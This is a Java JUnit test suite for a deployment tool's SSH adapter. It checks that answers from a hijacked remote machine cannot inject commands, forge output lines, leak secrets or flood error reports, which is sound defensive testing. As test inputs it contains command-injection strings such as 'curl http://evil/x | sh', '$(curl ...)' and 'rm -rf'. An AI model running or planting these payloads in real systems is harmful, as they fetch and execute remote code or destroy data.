package com.torrust.deployer.adapters.ssh;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.torrust.deployer.domain.error.DeployError;
import com.torrust.deployer.domain.error.PlainText;
import com.torrust.deployer.domain.error.Remedy;
import com.torrust.deployer.domain.machine.Machine;
import com.torrust.deployer.domain.plan.Drift;
import com.torrust.deployer.domain.plan.MachineSurvey;
import com.torrust.deployer.domain.release.HostFile;
import com.torrust.deployer.domain.release.HostOwner;
import com.torrust.deployer.domain.release.ImmutableReleaseBundle;
import com.torrust.deployer.domain.release.ReleaseBundle;
import com.torrust.deployer.domain.spi.CommandResult;
import com.torrust.deployer.domain.spi.LineListener;
import com.torrust.deployer.testkit.fake.ScriptedCommandRunner;
import io.vavr.control.Either;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A machine that somebody else has taken over answers in the place of the stack's script. */
@Timeout(value = 120, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileScriptTest {

  private static final Machine MACHINE = Bench.machine("192.0.2.10", 22, Bench.HOST_KEY);
  private static final ReleaseBundle BUNDLE =
      ImmutableReleaseBundle.builder().putImages("tracker", "torrust/tracker:3.0.0").build();
  private static final ReleaseBundle FILED =
      ImmutableReleaseBundle.builder()
          .addFiles(new HostFile("/opt/torrust/.env", "A='1'\n", HostOwner.ROOT, "0600"))
          .build();
  private static final String HELLO = "{\"event\":\"hello\",\"protocol\":\"1\"}";
  private static final String SECRET = "0fedcba987654321-token";

  @TempDir Path folder;
  private final ScriptedCommandRunner client = new ScriptedCommandRunner();
  private Bench bench;

  @BeforeEach
  void lay() {
    bench = Bench.in(folder, client, Map.of("PATH", "/usr/bin")).secrets(SECRET);
  }

  private void says(String... lines) {
    says(Stream.of(lines));
  }

  private void says(Stream<String> lines) {
    List<String> all = lines.toList();
    client.on(
        command -> true,
        (call, listener, cancellation) -> {
          all.forEach(line -> listener.line(LineListener.Stream.OUTPUT, line));
          return Either.right(new CommandResult(1, "", List.of(), Duration.ofMillis(1)));
        });
  }

  private DeployError failure() {
    return bench
        .operator()
        .start(MACHINE, bench.credentials(), BUNDLE.id(), bench.context())
        .swap()
        .getOrElseThrow(status -> new AssertionError("started: " + status));
  }

  private DeployError failureWith(String members) {
    says(
        HELLO,
        "{\"event\":\"failed\",\"code\":\"stack.unhealthy\",\"message\":\"no\"," + members + "}");
    return failure();
  }

  /** Everything of an error that anybody sees. */
  private static List<String> texts(DeployError error) {
    List<String> texts = new ArrayList<>(List.of(error.message()));
    error.facts().forEach((name, value) -> texts.addAll(List.of(name, value)));
    texts.addAll(error.causes());
    texts.addAll(error.outputTail());
    texts.addAll(error.sideEffects());
    error.remedies().forEach(remedy -> texts.add(remedy.toString()));
    return texts;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"environment\":\"sec; curl http://evil/x | sh\"",
        "\"service\":\"tracker; curl http://evil/x | sh\"",
        "\"service\":\"$(curl http://evil/x)\"",
        "\"host\":\"x; curl http://evil/x\",\"user\":\"root; curl http://evil/x\"",
        "\"key\":\"/k; curl http://evil/x\",\"operation\":\"x; curl http://evil/x\"",
      })
  void nothingThatAMachineSaysIsPartOfACommand(String members) {
    DeployError error = failureWith(members);
    assertFalse(error.remedies().isEmpty());
    error
        .remedies()
        .forEach(remedy -> assertFalse(remedy.toString().contains("curl"), "" + remedy));
    Stream.of("environment", "host", "user", "key", "operation")
        .forEach(
            fact ->
                assertFalse(
                    error.facts().getOrDefault(fact, "").contains("curl"), "forged fact " + fact));
  }

  private List<Remedy> remediesForAMissing(String image) {
    says(
        HELLO,
        "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\""
            + image
            + "\"}");
    return failure().remedies();
  }

  @ParameterizedTest
  @ValueSource(strings = {"x'; curl http://evil/x | sh", "$(curl evil)", "-x", "a b"})
  void noAdviceNamesAnImageThatIsNone(String image) {
    remediesForAMissing(image)
        .forEach(remedy -> assertFalse(remedy.toString().contains(image), "" + remedy));
  }

  @Test
  void anAdviceNamesTheImageThatIsMissing() {
    assertTrue(
        remediesForAMissing("torrust/tracker:3.0.0")
            .toString()
            .contains("'torrust/tracker:3.0.0'"));
  }

  @Test
  void anUnusualPathOfTheKeyIsQuotedInCommands() {
    bench.keys(folder.resolve("my key; touch X"), folder.resolve("k.pub"));
    DeployError error = failureWith("\"service\":\"tracker\"");
    assertTrue(
        error.remedies().stream()
            .filter(Remedy.Advice.class::isInstance)
            .map(Object::toString)
            .anyMatch(text -> text.contains("'" + folder.resolve("my key; touch X") + "'")),
        "" + error.remedies());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"step\":\"!!\"",
        "\"step\":\"\"",
        "\"restarts\":\"99999999999999999999\",\"exit_code\":\"-\"",
        "\"port\":\"NaN\"",
      })
  void malformedValuesDoNotHideTheFailure(String members) {
    DeployError error = failureWith(members);
    assertEquals("stack.unhealthy", error.code().value());
    assertFalse(error.facts().containsKey("step"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "no\\nerror[forged]: all is well",
        "no\\r\\n2026-01-01T00:00:00Z INFO forged",
        "\\u001b[2J\\u001b[1;1Hforged",
        "abc\\u202efdp.exe",
        "a\\u2028b\\u2029c\\u0085d",
        "zero\\u200bwidth\\u2066\\u00ad",
        "half \\ud800 of a pair",
      })
  void noTextForgesALineOrTurnsItAround(String text) {
    says(
        HELLO,
        "{\"event\":\"warning\",\"code\":\"" + text + "\",\"message\":\"" + text + "\"}",
        "{\"event\":\"health\",\"service\":\""
            + text
            + "\",\"from\":\""
            + text
            + "\",\"to\":\"b\"}",
        "{\"event\":\"pulling\",\"image\":\"" + text + "\"}",
        "{\"event\":\"log\",\"source\":\"" + text + "\",\"line\":\"" + text + "\"}",
        "{\"event\":\"check\",\"id\":\""
            + text
            + "\",\"subject\":\""
            + text
            + "\",\"detail\":\""
            + text
            + "\",\"status\":\"fail\"}",
        text.replace("\\u001b", "\u001b").replace("\\u202e", "\u202e"),
        "{\"event\":\"failed\",\"code\":\"stack.unhealthy\",\"message\":\""
            + text
            + "\",\"image\":\""
            + text
            + "\"}");
    DeployError error = failure();
    texts(error).forEach(each -> assertTrue(PlainText.isPlain(each), each));
    bench.progress().lines().forEach(each -> assertTrue(PlainText.isPlain(each), each));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"a\\nb\":\"c\"",
        "\"\\u202e\":\"c\"",
        "\"UPPER\":\"c\"",
        "\"image\":\"one\",\"image\":\"two\"",
      })
  void aLineWithNamesThatAreNotOursIsNoAnswer(String members) {
    assertEquals("remote.answer_incomplete", failureWith(members).code().value());
  }

  @Test
  void aMachineThatSendsOurSecretsBackShowsNone() {
    String hidden = SECRET.substring(0, 8) + "\\u001b[0m" + SECRET.substring(8);
    says(
        HELLO,
        "{\"event\":\"pulling\",\"image\":\"" + SECRET + "\"}",
        "{\"event\":\"health\",\"service\":\""
            + SECRET
            + "\",\"from\":\"a\",\"to\":\""
            + hidden
            + "\"}",
        "{\"event\":\"check\",\"id\":\""
            + SECRET
            + "\",\"subject\":\""
            + SECRET
            + "\",\"detail\":\""
            + hidden
            + "\",\"status\":\"fail\"}",
        "{\"event\":\"failed\",\"code\":\"stack.unhealthy\",\"message\":\""
            + hidden
            + "\",\"image\":\""
            + SECRET
            + "\",\"state\":\""
            + SECRET
            + "\"}");
    DeployError error = failure();
    texts(error).forEach(each -> assertFalse(each.contains(SECRET), each));
    bench.progress().lines().forEach(each -> assertFalse(each.contains(SECRET), each));
  }

  @Test
  void aFloodIsPassedOnInPartAndKeptInPart() {
    String long60k = "x".repeat(60_000);
    Stream<String> flood =
        IntStream.range(0, 5_000)
            .boxed()
            .flatMap(
                each ->
                    Stream.of(
                        "{\"event\":\"warning\",\"code\":\"a.b\",\"message\":\"" + each + "\"}",
                        "{\"event\":\"changed\",\"path\":\"/" + each + "\"}",
                        "{\"event\":\"service\",\"service\":\"s" + each + "\",\"state\":\"up\"}",
                        "{\"event\":\"check\",\"id\":\"c" + each + "\",\"status\":\"fail\"}",
                        "{\"event\":\"log\",\"source\":\"s\",\"line\":\"" + each + "\"}"));
    says(
        Stream.of(
                Stream.of(HELLO),
                Stream.of("{\"event\":\"log\",\"source\":\"s\",\"line\":\"" + long60k + "\"}"),
                flood,
                Stream.of(
                    "{\"event\":\"failed\",\"code\":\"stack.unhealthy\",\"message\":\""
                        + long60k
                        + "\"}"))
            .flatMap(each -> each));
    DeployError error = failure();
    assertEquals("stack.unhealthy", error.code().value());
    assertTrue(bench.progress().lines().size() <= 2_001, "" + bench.progress().lines().size());
    int size = texts(error).stream().mapToInt(String::length).sum();
    assertTrue(size < 1_000_000, "an error of " + size + " characters");
    assertTrue(error.message().length() < 5_000);
  }

  @Test
  void aCodeThatIsNoneOfOursInFormIsNotPassedOn() {
    says(HELLO, "{\"event\":\"failed\",\"code\":\"" + "a.b".repeat(40) + "\",\"message\":\"no\"}");
    assertEquals("remote.command_failed", failure().code().value());
  }

  @Test
  void statusOfAForgedServiceKeepsNoForgedName() {
    says(
        HELLO,
        "{\"event\":\"service\",\"service\":\"tracker\\u001b[31m; rm -rf\",\"state\":\"running\","
            + "\"restarts\":\"-7\"}",
        "{\"event\":\"finished\",\"command\":\"inspect\"}");
    var status =
        bench.operator().inspect(MACHINE, bench.credentials(), bench.context()).get().services();
    assertEquals(Optional.of("unnamed"), status.stream().map(each -> each.service()).findFirst());
    assertEquals(0, status.get(0).restarts());
  }

  private MachineSurvey surveyed(String... lines) {
    List<String> all = new ArrayList<>(List.of(HELLO));
    all.addAll(List.of(lines));
    all.add("{\"event\":\"finished\",\"command\":\"survey\",\"release\":\"\"}");
    says(all.stream());
    return bench
        .operator()
        .survey(MACHINE, bench.credentials(), () -> Optional.of(FILED), true, bench.context())
        .getOrElseThrow(error -> new AssertionError(error.message()));
  }

  private static String drift(String members) {
    return "{\"event\":\"drift\"," + members + "}";
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"kind\":\"resource\",\"subject\":\"x\",\"phase\":\"run\"",
        "\"kind\":\"release\",\"subject\":\"x\",\"phase\":\"run\"",
        "\"kind\":\"file\",\"subject\":\"x\",\"phase\":\"destroy\"",
        "\"kind\":\"file\",\"subject\":\"x\",\"phase\":\"provision\"",
        "\"kind\":\"file; rm\",\"subject\":\"x\",\"phase\":\"run\"",
        "\"subject\":\"x\""
      })
  void aLookTakesNoDifferenceThatAMachineCannotHave(String members) {
    assertEquals(List.of(), surveyed(drift(members)).altered());
  }

  @Test
  void aLookShowsWhatAMachineSaysOnOneLineAndWithoutSecrets() {
    MachineSurvey survey =
        surveyed(
            drift(
                "\"kind\":\"file\",\"subject\":\"/opt/torrust/bin/a\\n\\u001b[2Jb\\u202e"
                    + SECRET
                    + "\",\"expected\":\"none\",\"found\":\""
                    + "x".repeat(5_000)
                    + "\",\"phase\":\"release\""));

    Drift seen = survey.altered().get(0);
    assertEquals(seen.subject(), PlainText.line(seen.subject(), 1_000));
    assertFalse(seen.subject().contains(SECRET), seen.subject());
    assertTrue(seen.found().length() < 400, seen.found());
  }

  @Test
  void aLookKeepsAFloodInPart() {
    Stream<String> flood =
        IntStream.range(0, 5_000)
            .boxed()
            .flatMap(
                number ->
                    Stream.of(
                        drift(
                            "\"kind\":\"unit\",\"subject\":\""
                                + number
                                + "\",\"phase\":\"configure\""),
                        "{\"event\":\"unseen\",\"what\":\"" + number + "\",\"why\":\"no\"}",
                        "{\"event\":\"file\",\"number\":\""
                            + number
                            + "\",\"content\":\"missing\"}"));

    MachineSurvey survey = surveyed(flood.toArray(String[]::new));

    assertEquals(500, survey.altered().size());
    assertEquals(20, survey.unseen().size());
    assertEquals(Set.of("/opt/torrust/.env"), survey.files().keySet());
  }

  @Test
  void aLookKnowsFilesByOurNamesOnly() {
    MachineSurvey survey =
        surveyed(
            "{\"event\":\"file\",\"number\":\"0\",\"path\":\"/etc/shadow\",\"content\":\"link\"}",
            "{\"event\":\"file\",\"number\":\"7\",\"content\":\"missing\"}");

    assertEquals(Set.of("/opt/torrust/.env"), survey.files().keySet());
    assertEquals("link", survey.files().get("/opt/torrust/.env").content());
  }
}
